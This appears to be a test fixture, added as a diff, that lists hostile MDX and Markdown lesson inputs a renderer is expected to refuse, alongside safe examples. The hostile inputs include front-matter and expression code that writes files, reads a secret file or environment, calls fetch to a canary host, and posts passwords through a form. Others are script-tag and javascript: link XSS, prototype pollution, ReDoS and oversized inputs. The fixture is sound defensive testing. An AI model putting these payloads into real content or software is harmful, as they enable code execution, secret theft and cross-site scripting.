@@ -1,0 +1,137 @@
+/** Where an attack would leave its trace: a file it writes, a file it reads, a host it calls. */
+export type Canaries = { readonly written: string; readonly secret: string; readonly host: string };
+
+const FENCED = '```quiz choice milk-one\nWhat now?\n\n( ) "No." #no\n(x) "Yes." #yes\n```';
+
+/** Lessons that want more than to be read. Each is refused, wherever it is tried. */
+export function attacks({ written, secret, host }: Canaries): readonly string[] {
+  const write = `require('node:fs').writeFileSync(${JSON.stringify(written)}, 'ran')`;
+  const inOneLine = `process.getBuiltinModule('node:fs').writeFileSync(${JSON.stringify(written)}, 'ran')`;
+  return [
+    // Front matter that is a program
+    `---js\n${write}\n---\n# Hello`,
+    `---javascript\n${write}\n---\n# Hello`,
+    `---JS\n${write}\n---\n# Hello`,
+    `\uFEFF---js\n${write}\n---\n# Hello`,
+    `---coffee\n${write}\n---\n# Hello`,
+    `---\ntitle: A\n---\n---js\n${write}\n---\n# Hello`,
+    '---\ntitle: !!js/function "function(){}"\n---\n# Hello',
+    '---\ntitle: &a x\nminutes: *a\n---\n# Hello',
+    // Imports and exports
+    `import x from ${JSON.stringify(secret)}\n\n# Hello {x}`,
+    `import x from ${JSON.stringify(secret.replace(/\.txt$/, ''))}\n\n{x}`,
+    'import fs from "node:fs"\n\n# Hello',
+    'import "data:text/javascript,globalThis.x=1"\n\n# Hello',
+    'export const a = 1\n\n# Hello',
+    `export default (() => { ${inOneLine} })()`,
+    // Expressions, also empty ones and comments
+    `# Hello {${inOneLine}}`,
+    `# Hello {require(${JSON.stringify(secret)})}`,
+    `# Hello {import(${JSON.stringify(secret)})}`,
+    '# Hello {process.env.HOME}',
+    '{/* @jsxImportSource ./evil */}\n\n# Hello',
+    '{}\n\n# Hello',
+    '{/* a note */}',
+    '# {[]["filter"]["constructor"]("return process")()}',
+    '# {(() => { for (;;); })()}',
+    '# {/(a+)+$/.test("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab")}',
+    '# {Object.prototype.polluted = "yes"}',
+    '# {process.exit(1)}',
+    `# {fetch(${JSON.stringify(host)})}`,
+    '<Callout kind={(() => "note")()}>\n\nWords\n\n</Callout>',
+    '<Callout kind={`note`}>\n\nWords\n\n</Callout>',
+    '<Callout kind={/* @jsx x */ "note"}>\n\nWords\n\n</Callout>',
+    '<Callout {...{ kind: "note" }}>\n\nWords\n\n</Callout>',
+    '<Callout kind=<b>x</b> />',
+    // Elements
+    `<script src="${host}"></script>`,
+    '<script>{`alert(1)`}</script>',
+    '<iframe srcDoc="<script>alert(1)</script>" />',
+    `<img src="${host}/x.png" />`,
+    '<style>{"body{display:none}"}</style>',
+    `<form action="${host}"><input name="password" /></form>`,
+    `<meta httpEquiv="refresh" content="0;url=${host}" />`,
+    `<link rel="stylesheet" href="${host}/x.css" />`,
+    '<object data="x" />',
+    '<x-y onclick="alert(1)">Words</x-y>',
+    '<kbd is="x-y" onclick="alert(1)">Words</kbd>',
+    '<svg><a xlink:href="javascript:alert(1)"><text>Words</text></a></svg>',
+    '<constructor.constructor />',
+    '<__proto__ />',
+    '<constructor />',
+    '<React.Fragment>Words</React.Fragment>',
+    '<>Words</>',
+    '<Unknown />',
+    // Attributes
+    '<Callout kind="note" dangerouslySetInnerHTML={{ __html: "<script>alert(1)</script>" }} />',
+    '<Callout kind="note" style="position:fixed" />',
+    '<Callout kind="note" className="dialog" />',
+    '<Callout kind="note" id="app" />',
+    '<Callout kind="note" onMouseOver="alert(1)" />',
+    '<Callout kind="note" ref="x" />',
+    '<Callout kind="note" kind="tip" />',
+    '<Persona who="delivery-driver" answer="b" />',
+    '<Map of="everything" />',
+    // Made by the swap alone
+    '<QuizItem item="milk-one" />',
+    '<Talk index="0" />',
+    '<Keep index="0" />',
+    // Links and pictures
+    '[words](javascript:alert(1))',
+    '[words](JaVaScRiPt:alert(1))',
+    '[words](&#106;avascript:alert(1))',
+    '[words][here]\n\n[here]: javascript:alert(1)',
+    '[words](data:text/html,<script>alert(1)</script>)',
+    '[words](vbscript:x)',
+    '[words](//example.org)',
+    '[words](https:/example.org)',
+    '[words](https://larkfield.example@example.org)',
+    '[words](\\\\example.org)',
+    `![words](${host}/x.png)`,
+    '![words](/logout)',
+    '![words](images/../../secret.png)',
+    '![words](images/drawing.svg)',
+    '![words][pic]\n\n[pic]: images/a.png',
+    // Hidden and turned-around characters
+    'Words \u202Eturned\u202C around',
+    'Words with a null \u0000 in them',
+    'Words &#x202E;turned around',
+    'Words \u2028 on two lines',
+    // Sizes
+    `${'>'.repeat(2_000)} x`,
+    '* '.repeat(3_000),
+    Array.from({ length: 70 }, (_, depth) => `${'  '.repeat(depth)}* x`).join('\n'),
+    '['.repeat(3_000),
+    '<kbd>'.repeat(1_200),
+    `${'> x\n\n'.repeat(2_500)}`,
+    'x'.repeat(70_000),
+    '*'.repeat(65),
+    'a\n'.repeat(3_500),
+    // Blocks with answers where they would be read
+    `> ${FENCED.replaceAll('\n', '\n> ')}`,
+    `* ${FENCED.replaceAll('\n', '\n  ')}`,
+    `<Callout kind="note">\n\n${FENCED}\n\n</Callout>`,
+    FENCED.replace('quiz', 'Quiz'),
+    FENCED.replace('quiz', 'quizz'),
+    FENCED.replace('quiz choice milk-one', ''),
+    '- [x] Yes\n- [ ] No',
+  ];
+}
+
+/** Plain lessons that only look dangerous, or use everything that is allowed. */
+export const SAFE: readonly string[] = [
+  '# Hello\n\nWords with *stress*, **weight**, ~~a change of mind~~ and `code`.',
+  'Ten per cent, \\{not a program\\}, 3 \\< 5, at 10:30.',
+  '```js\nimport x from "fs"; process.exit({ a: 1 }) // <script>\n```',
+  'A list:\n\n* one\n* two\n  1. three\n\n> a quote\n\n---\n\nThe end.',
+  '| a | b |\n| - | -: |\n| 1 | 2 |',
+  'Words with a note[^1].\n\n[^1]: The note.',
+  '[a](https://example.org/x?y=1#z) [b](mailto:a@example.org) [c](/phrases) [d](#here) [e][f]\n\n[f]: https://example.org',
+  '<Callout kind="care">\n\n**Careful** with <kbd>Esc</kbd>.\n\n</Callout>',
+  '<Pair selling="Buy { this } now" helping="What would help, <now>?" />',
+  '<Persona who="delivery-driver" />\n\n<Map of="growth" />\n\n<CompanyText of="names" />\n\n<PhraseList persona="front-desk" move="W5" />',
+  '<details>\n<summary>More</summary>\n\nWords\n\n</details>',
+  '![A door](images/door.png)\n\n<Figure src="images/door.png" alt="A door" caption="Six in the morning" />',
+  `${FENCED}\n\n\`\`\`talk poor\nDee: Morning.\n! A comment.\n\`\`\`\n\n\`\`\`keep\nAsk.\n\`\`\``,
+  'Déjà vu — “quotes”, ½, 日本語, 👩‍🍳.',
+];
